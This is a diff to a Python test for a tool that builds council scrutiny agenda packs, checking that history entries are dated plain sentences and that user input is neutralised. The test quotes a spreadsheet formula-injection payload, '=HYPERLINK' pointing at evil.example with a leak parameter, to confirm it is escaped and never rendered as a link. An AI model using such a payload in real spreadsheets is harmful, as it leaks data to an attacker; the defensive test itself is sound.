@@ -112,17 +112,29 @@ def test_a_concerns_life_at_the_terminal_and_its_agenda_pack(sample_store_url: s
     assert row["The concern"] == "'" + HOSTILE  # shown as text, never run as a formula
     assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())
     assert row["The service's answer"] == "Two more caseworkers."
-    assert row["Service area"] == "SEND" and row["Escalation note"] == "Officer to attend"
+    assert row["Service area"] == "SEND" and row["Reason for escalation"] == "Officer to attend"
     assert "EHC plans" in row["About"] and row["The figure when raised"]
-    history = row["History"].splitlines()
-    assert len(history) == 4 and "open -> with_service (SEND, due 16 Nov 2026): Please answer" in history[1]
-    assert "answered -> escalated (meeting 08 Dec 2026): Officer to attend" in history[3]
+    assert row["Raised"] == "2 November 2026"
+    # Every step dated and said in words; no state-machine word anywhere in the pack.
+    assert row["History"].splitlines() == [
+        f"Raised by {MEMBER} on 2 November 2026.",
+        f"Sent to SEND by {ADVISOR} on 2 November 2026, for a written answer by 16 November 2026. "
+        "Note for the service: “Please answer”",
+        f"Answered by {SEND_OFFICER} on 10 November 2026.",
+        f"Escalated to the Children and Young People Scrutiny Commission meeting on 8 December 2026 "
+        f"by {ADVISOR} on 20 November 2026.",
+    ]
+    text = pack.read_text(encoding="utf-8")
+    assert not any(word in text for word in ("with_service", "->", "answered -> escalated"))
 
     page = kpibot(
         url, london(2026, 12, 1, 9, 0), "agenda", "--meeting", "2026-12-08", "--format", "html"
     ).stdout
-    assert '<h2 id="c1">C-1: ' in page and "Two more caseworkers." in page
-    assert "=HYPERLINK(&quot;http://evil.example/?leak=&quot;&amp;A1" in page and "<a " not in page
+    assert '<h2 id="c1">Item 1. C-1: ' in page and "Two more caseworkers." in page
+    assert "Officer to attend" in page and "This pack was prepared on 1 December 2026." in page
+    assert "=HYPERLINK(&#34;http://evil.example/?leak=&#34;&amp;A1" in page  # escaped, as text
+    assert '<a href="http' not in page  # the member's words never become a link
+    assert "with_service" not in page and "-&gt;" not in page
 
     # After the meeting, closed with its outcome.
     closed = kpibot(
